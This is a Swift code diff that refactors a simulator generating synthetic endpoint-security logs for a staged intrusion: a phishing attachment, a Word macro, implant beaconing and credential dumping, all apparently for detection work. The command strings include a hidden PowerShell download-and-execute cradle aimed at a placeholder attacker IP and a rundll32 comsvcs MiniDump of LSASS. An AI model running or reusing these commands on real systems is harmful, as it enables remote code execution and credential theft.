@@ -23,6 +23,7 @@ extension Simulator {
     mutating func attackChain(on device: SimulatedDevice, from desktop: SimulatedProcess, into day: inout DayBuilder) {
         let user = world.users[device.primaryUser]
         let account = SimulatedAccount(user, netbios: world.netbios)
+        let victim = Victim(device: device, account: account)
         var time = desktop.created + Int64(random.int(600...1_800)) * DateTimeTicks.perSecond
         let messageId = random.guid()
         let attachment = Binary(
@@ -60,16 +61,7 @@ extension Simulator {
             ]
         )
         time += Int64(random.int(120...900)) * DateTimeTicks.perSecond
-        let outlook = start(
-            Binaries.outlook,
-            on: device,
-            at: time,
-            as: account,
-            integrity: "Medium",
-            commandLine: "\"\(Binaries.outlook.path)\"",
-            parent: desktop,
-            into: &day
-        )
+        let outlook = launch(Binaries.outlook, "\"\(Binaries.outlook.path)\"", parent: desktop, at: time, on: victim, into: &day)
         day.add(
             "DeviceFileEvents",
             at: time + DateTimeTicks.perSecond,
@@ -78,30 +70,19 @@ extension Simulator {
             fileFields(attachment, action: "FileCreated", device: device)
         )
         time += Int64(random.int(30...300)) * DateTimeTicks.perSecond
-        let word = start(
+        let word = launch(
             Binaries.word,
-            on: device,
-            at: time,
-            as: account,
-            integrity: "Medium",
-            commandLine: "\"\(Binaries.word.path)\" /n \"\(attachment.path)\" /o \"\"",
+            "\"\(Binaries.word.path)\" /n \"\(attachment.path)\" /o \"\"",
             parent: outlook,
+            at: time,
+            on: victim,
             into: &day
         )
 
         // T1059.001 + T1105: the macro starts a download cradle.
         time += Int64(random.int(3...20)) * DateTimeTicks.perSecond
         let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://\(Self.attackerIP)/a.ps1')\""
-        let powershell = start(
-            Binaries.powershell,
-            on: device,
-            at: time,
-            as: account,
-            integrity: "Medium",
-            commandLine: cradle,
-            parent: word,
-            into: &day
-        )
+        let powershell = launch(Binaries.powershell, cradle, parent: word, at: time, on: victim, into: &day)
         day.add(
             "DeviceNetworkEvents",
             at: time + 2 * DateTimeTicks.perSecond,
@@ -117,16 +98,7 @@ extension Simulator {
             fileFields(Self.payload, action: "FileCreated", device: device)
         )
         time += 6 * DateTimeTicks.perSecond
-        let implant = start(
-            Self.payload,
-            on: device,
-            at: time,
-            as: account,
-            integrity: "Medium",
-            commandLine: "\"\(Self.payload.path)\" -k netsvc",
-            parent: powershell,
-            into: &day
-        )
+        let implant = launch(Self.payload, "\"\(Self.payload.path)\" -k netsvc", parent: powershell, at: time, on: victim, into: &day)
 
         // T1071.001: beaconing every minute, with jitter, for two hours.
         var beacon = time
@@ -145,7 +117,7 @@ extension Simulator {
         time += Int64(random.int(900...2_400)) * DateTimeTicks.perSecond
         let lsassId = Int64(random.int(600...1_000)) * 4
         let dumpCommand = #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump \#(lsassId) C:\Users\Public\l.dmp full"#
-        let dumper = start(Self.rundll32, on: device, at: time, as: account, integrity: "High", commandLine: dumpCommand, parent: implant, into: &day)
+        let dumper = launch(Self.rundll32, dumpCommand, parent: implant, at: time, on: victim, into: &day, integrity: "High")
         day.add(
             "DeviceEvents",
             at: time + DateTimeTicks.perSecond,
@@ -218,6 +190,24 @@ extension Simulator {
     }
 
     // MARK: Pieces
+
+    /// Where the attack runs: the victim's device and account.
+    struct Victim {
+        let device: SimulatedDevice
+        let account: SimulatedAccount
+    }
+
+    private mutating func launch(
+        _ binary: Binary,
+        _ commandLine: String,
+        parent: SimulatedProcess,
+        at time: Int64,
+        on victim: Victim,
+        into day: inout DayBuilder,
+        integrity: String = "Medium"
+    ) -> SimulatedProcess {
+        start(binary, on: victim.device, at: time, as: victim.account, integrity: integrity, commandLine: commandLine, parent: parent, into: &day)
+    }
 
     private func fileFields(_ file: Binary, action: String, device: SimulatedDevice) -> [(String, JSONValue)] {
         [
